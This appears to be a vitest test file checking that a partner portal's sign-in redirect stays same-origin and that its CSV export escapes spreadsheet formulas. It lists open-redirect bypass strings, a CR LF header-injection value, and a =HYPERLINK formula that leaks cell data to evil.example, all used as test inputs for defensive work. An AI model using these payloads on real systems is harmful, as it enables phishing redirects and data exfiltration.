/**
 * Issue 28, items 3 and 8 over HTTP: sign-in follows only same-origin paths, and the customer
 * CSV export neutralises cells a spreadsheet would run as formulas.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { createCustomersFor, createPartner, PASSWORD, uniq } from "../support/factories";
import { installTestDatabase } from "../support/db";
import { APP, Browser } from "../support/http";

installTestDatabase();

describe("sign-in goes back only to a path of this origin", () => {
  it("goes back to the page that asked for sign-in", async () => {
    const p = await createPartner(["global_admin"]);
    const b = new Browser();
    const asked = await b.fetch("/partner/staff?tab=groups");
    expect(asked.status).toBe(302);
    const signInUrl = new URL(asked.headers.get("Location")!, APP);
    expect(signInUrl.pathname).toBe("/signin");
    const redirectTo = signInUrl.searchParams.get("redirectTo")!;
    expect(redirectTo).toBe("/partner/staff?tab=groups");
    // The sign-in page carries it in its form, and the sign-in follows it.
    expect((await b.html(`/signin?redirectTo=${encodeURIComponent(redirectTo)}`)).text).toContain(`name="redirectTo" value="/partner/staff?tab=groups"`);
    const res = await b.fetch("/signin", { form: { email: p.users.global_admin!.email, password: PASSWORD, redirectTo } });
    expect(res.status).toBe(302);
    // Partner staff confirm their second factor next; the page asked for waits for it.
    expect(res.headers.get("Location")).toBe("/signin/verify");
    const verified = await b.secondFactor(p.users.global_admin!.email);
    expect(verified.status).toBe(302);
    expect(verified.headers.get("Location")).toBe("/partner/staff?tab=groups");
  });

  const attempts: [string, string][] = [
    ["TAB between the slashes (went to evil.example before)", "/\t/evil.example"],
    ["CR between the slashes", "/\r/evil.example"],
    ["LF between the slashes", "/\n/evil.example"],
    ["CR LF with a header after it", "/partner\r\nSet-Cookie: pd=evil"],
    ["NUL", "/partner\u0000"],
    ["a protocol-relative URL", "//evil.example/x"],
    ["an absolute URL", "https://evil.example/x"],
    ["a backslash", "/\\evil.example"],
    ["an encoded slash", "/%2Fevil.example"],
    ["an encoded backslash", "/%5cevil.example"],
    ["an ideographic space", "/\u3000/evil.example"],
    ["a zero-width space", "/\u200b/evil.example"],
    ["a right-to-left override", "/\u202e/evil.example"],
  ];

  it.each(attempts)("ignores %s and goes home instead", async (_name, redirectTo) => {
    const p = await createPartner(["global_admin"]);
    const b = new Browser();
    const first = await b.fetch("/signin", { form: { email: p.users.global_admin!.email, password: PASSWORD, redirectTo } });
    expect(first.headers.get("Set-Cookie")).not.toContain("pd=evil");
    const res = await b.secondFactor(p.users.global_admin!.email);
    expect(res.status).toBe(302);
    expect(res.headers.get("Location")).toBe("/partner");
    expect(res.headers.get("Set-Cookie")).not.toContain("pd=evil");
    // Signed in all the same: the home page answers.
    expect((await b.html("/partner")).status).toBe(200);
  });
});

describe("CSV export neutralises spreadsheet formulas", () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the invoice")';

  it("exports a customer named =HYPERLINK(...) as text, with a leading single quote", async () => {
    const p = await createPartner(["global_admin", "sales_agent"]);
    const sales = new Browser();
    await sales.signIn(p.users.sales_agent!.email);
    // The name comes in through the app's own form, as an attacker's would.
    const domain = `formula-${uniq()}.test`;
    const created = await sales.fetch("/partner/customers/new", {
      form: { name: HYPERLINK, primaryDomain: domain, country: "DK", contactFirstName: "Eve", contactLastName: "Formula", contactEmail: `eve@${domain}` },
    });
    expect(created.status).toBe(302);
    // Shown as typed on the page (HTML escapes it; only the CSV needs the quote).
    expect((await sales.html(created.headers.get("Location")!)).text).toContain("=HYPERLINK(");

    const res = await sales.fetch(`/partner/customers/export.csv?q=${domain}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toContain("text/csv");
    const rows: string[][] = parse((await res.text()).replace(/^\uFEFF/, ""));
    expect(rows[0]![0]).toBe("Name");
    expect(rows).toHaveLength(2);
    expect(rows[1]![0]).toBe(`'${HYPERLINK}`);
    expect(rows[1]![1]).toBe(domain);
  });

  it("neutralises every cell that starts with = + - @ TAB or CR, and nothing else", async () => {
    const p = await createPartner(["global_admin"]);
    const names = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "Plain Name Ltd", "a=b Ltd"];
    const tag = uniq();
    await createCustomersFor(
      p,
      names.map((name) => ({ name: `${name}${name.startsWith("Plain") || name.startsWith("a=") ? "" : ` ${tag}`}` })),
    );
    const b = new Browser();
    await b.signIn(p.users.global_admin!.email);
    const res = await b.fetch("/partner/customers/export.csv");
    expect(res.status).toBe(200);
    const rows: string[][] = parse((await res.text()).replace(/^\uFEFF/, ""), { relax_quotes: false });
    const exported = rows.slice(1).map((r) => r[0]!);
    expect(exported.sort()).toEqual(
      [`'=1+2 ${tag}`, `'+1+2 ${tag}`, `'-1+2 ${tag}`, `'@SUM(A1:A9) ${tag}`, `'\t=1+2 ${tag}`, `'\r=1+2 ${tag}`, "Plain Name Ltd", "a=b Ltd"].sort(),
    );
  });
});
